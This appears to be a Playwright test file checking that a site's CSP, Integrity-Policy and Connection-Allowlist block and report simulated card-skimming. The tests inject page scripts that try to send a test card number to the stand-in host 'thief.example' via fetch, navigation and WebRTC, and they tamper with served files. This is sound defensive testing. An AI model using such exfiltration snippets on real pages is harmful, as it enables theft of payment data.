// What a browser reports by itself of the frame, with the real headers, to the real ingest. Over TLS: it reports nothing else.

import { readFileSync } from "node:fs";
import { Tampering, flipBit } from "./support/published.ts";
import { SecureSite } from "./support/secure.ts";
import { expect, test } from "./support/test.ts";
import { lacksAllowlist } from "./support/ways.ts";

const tampering = new Tampering(); // of a site that goes with its test
const CARD = "4242424242424242";

test.use({
  ignoreHTTPSErrors: true,
  launchOptions: async ({ launchOptions }, use) => {
    // Reports are sent by the browser itself, which no page's setting reaches; and a minute later, if not told otherwise
    const args = [...(launchOptions.args ?? []), "--ignore-certificate-errors", "--short-reporting-delay"];
    await use({ ...launchOptions, args });
  },
});

test("an attack that is blocked is reported, and what it wanted to carry away is not kept", async ({ page, spare }) => {
  const site = await SecureSite.start(spare);
  try {
    const { fields } = JSON.parse(readFileSync(site.path("site/release.json"), "utf8")) as {
      fields: Record<"frame" | "loader", { file: string; integrity: string }>;
    };
    const { frame, loader } = fields;
    await page.goto(`${site.fields}/${frame.file}`);
    await page.evaluate(async (card) => {
      await new Promise((done) => setTimeout(done)); // out of the debugger's own call
      await fetch(`https://${card}.thief.example/${card}?${card}`, { mode: "no-cors" }).catch(() => undefined);
      try {
        const script = document.createElement("script");
        script.textContent = "1";
        document.body.append(script);
      } catch {
        // Trusted Types
      }
    }, CARD);
    const of = async (type: string): Promise<unknown> => (await site.reports()).find((report) => report.type === type);
    const seen = async (type: string, rule: string): Promise<unknown> =>
      (await site.reports()).find((report) => report.type === type && report.rule === rule);
    const pageAddress = `${site.fields}/${frame.file}`;
    await expect
      .poll(() => seen("csp-violation", "connect-src"), { timeout: 20_000 })
      .toMatchObject({ page: pageAddress, source: "https://*.thief.example", count: 1 });
    await expect
      .poll(() => of("csp-hash"), { timeout: 20_000 })
      .toMatchObject({ page: pageAddress, source: `${site.fields}/${loader.file}`, hash: loader.integrity });
    // What only Integrity-Policy stops: the hash is the policy's, and what was fetched without CORS has none that counts
    tampering.text(site.path("site/fields", frame.file), (html) => html.replace('type="module" ', "").replace(/ crossorigin(="[^"]*")?/, ""));
    await page.goto(`${site.fields}/${frame.file}`);
    await expect
      .poll(() => of("integrity-violation"), { timeout: 20_000 })
      .toMatchObject({ page: pageAddress, rule: "script", source: `${site.fields}/${loader.file}` });
    const all = await site.reports();
    console.log(all.map(({ type, rule, source }) => `${type} ${rule} ${source}`).join("\n"));
    expect(JSON.stringify(all)).not.toContain(CARD);
  } finally {
    await site.stop();
  }
});

test("a module that is refused by its hash is reported with its name", async ({ page, spare }) => {
  const site = await SecureSite.start(spare);
  try {
    const { fields } = JSON.parse(readFileSync(site.path("site/release.json"), "utf8")) as { fields: Record<"frame" | "wasm", { file: string }> };
    const address = `${site.fields}/${fields.frame.file}`;
    const asked: string[] = [];
    page.on("requestfinished", (request) => asked.push(new URL(request.url()).pathname));
    const refused = async (): Promise<unknown[]> => (await site.reports()).filter(({ rule }) => rule === "img-src");
    // The good one first: what is reported below is of the other one
    await page.goto(address);
    await expect.poll(() => asked).toContain(`/${fields.wasm.file}`);
    tampering.bytes(site.path("site/fields", fields.wasm.file), flipBit);
    await page.goto(address);
    await expect.poll(refused, { timeout: 20_000 }).toHaveLength(1);
    const source = `${site.fields}/refused-${fields.wasm.file}`;
    expect(await refused()).toMatchObject([{ type: "csp-violation", page: address, source, count: 1 }]);
    expect(asked.filter((path) => path.includes("refused")), "nobody was asked for it").toEqual([]);
  } finally {
    await site.stop();
  }
});

test("what Connection-Allowlist alone stops is reported: a peer connection, a navigation", async ({ page, spare, browser }) => {
  test.skip(lacksAllowlist(browser.version()), "this browser has no Connection-Allowlist");
  const site = await SecureSite.start(spare);
  try {
    const { fields } = JSON.parse(readFileSync(site.path("site/release.json"), "utf8")) as { fields: { frame: { file: string } } };
    const address = `${site.fields}/${fields.frame.file}`;
    await page.goto(address);
    await page.evaluate(async () => {
      const peer = new RTCPeerConnection();
      peer.createDataChannel("x");
      await peer.setLocalDescription().catch(() => {});
    });
    // Out of the call: where it leads, nothing comes back from
    await page.evaluate((card) => void setTimeout(() => (location.href = `https://${card}.thief.example/${card}?${card}`)), CARD);
    const stopped = async (): Promise<unknown[]> => (await site.reports()).filter(({ type }) => type === "connection-allowlist");
    await expect.poll(stopped, { timeout: 20_000 }).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ page: address, source: "webrtc" }),
        expect.objectContaining({ page: address, source: "https://*.thief.example" }),
      ]),
    );
    expect(JSON.stringify(await site.reports())).not.toContain(CARD);
  } finally {
    await site.stop();
  }
});
